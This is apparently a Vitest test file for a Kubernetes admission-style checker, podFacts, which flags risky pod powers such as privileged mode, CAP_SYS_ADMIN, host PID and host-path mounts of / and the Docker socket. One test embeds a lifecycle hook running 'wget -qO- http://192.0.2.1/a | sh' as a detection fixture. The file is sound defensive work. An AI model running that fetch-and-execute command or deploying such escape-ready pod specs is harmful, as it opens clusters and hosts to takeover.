import { describe, expect, it } from 'vitest';

import { podFacts } from './pod-powers.js';

const dangerous = {
  hostPID: true,
  containers: [
    {
      image: 'reg:5000/tools/shell:1',
      securityContext: { privileged: true, capabilities: { add: ['CAP_SYS_ADMIN', 'CHOWN'] } },
    },
  ],
  volumes: [
    { hostPath: { path: '/' } },
    { hostPath: { path: '/var/run/docker.sock' } },
    { hostPath: { path: '/var/log' } },
  ],
};
const all = [
  'capability-other',
  'capability-sys_admin',
  'host-path',
  'host-path-root',
  'host-path-runtime',
  'host-pid',
  'privileged',
];

describe('what a written pod may do', () => {
  it.each([
    ['a pod', { kind: 'Pod', spec: dangerous }],
    ['a template', { kind: 'DaemonSet', spec: { template: { spec: dangerous } } }],
    ['a cron job', { kind: 'CronJob', spec: { jobTemplate: { spec: { template: { spec: dangerous } } } } }],
    ['a JSON patch of the template', [{ op: 'replace', path: '/spec/template/spec', value: dangerous }]],
  ])('is read from %s', (_, body) => {
    expect(podFacts(body)?.powers.powers).toEqual(all);
    expect(podFacts(body)?.powers.images).toEqual(['reg:5000/tools/shell']);
  });

  it('is read from a JSON patch of one field', () => {
    const patch = (path: string, value: unknown): unknown => podFacts([{ op: 'add', path, value }])?.powers.powers;
    expect(patch('/spec/template/spec/containers/0/securityContext', { privileged: true })).toEqual(['privileged']);
    expect(patch('/spec/template/spec/containers/0/securityContext/privileged', true)).toEqual(['privileged']);
    expect(patch('/spec/template/spec/hostNetwork', true)).toEqual(['host-network']);
    expect(patch('/spec/template/spec/volumes/-', { hostPath: { path: '/etc' } })).toEqual(['host-path-sensitive']);
  });

  it('holds the programs of commands and hooks', () => {
    const hook = { postStart: { exec: { command: ['sh', '-c', 'wget -qO- http://192.0.2.1/a | sh'] } } };
    const facts = podFacts([{ op: 'add', path: '/spec/template/spec/containers/0/lifecycle', value: hook }]);
    expect(facts?.scripts[0]).toMatchObject({ where: 'lifecycle' });
    expect(facts?.scripts[0]?.kinds).toContain('pipe-to-shell');
  });

  it('says nothing of a body without a pod', () => {
    expect(podFacts({ spec: { replicas: 3 } })).toBeUndefined();
    expect(podFacts({ metadata: { labels: { a: 'b' } } })).toBeUndefined();
    expect(podFacts(undefined)).toBeUndefined();
  });

  it('knows a pod that a controller made', () => {
    const metadata = { ownerReferences: [{ kind: 'ReplicaSet', controller: true }] };
    expect(podFacts({ metadata, spec: dangerous })?.powers.owned).toBe(true);
    expect(podFacts({ spec: dangerous })?.powers.owned).toBe(false);
  });
});
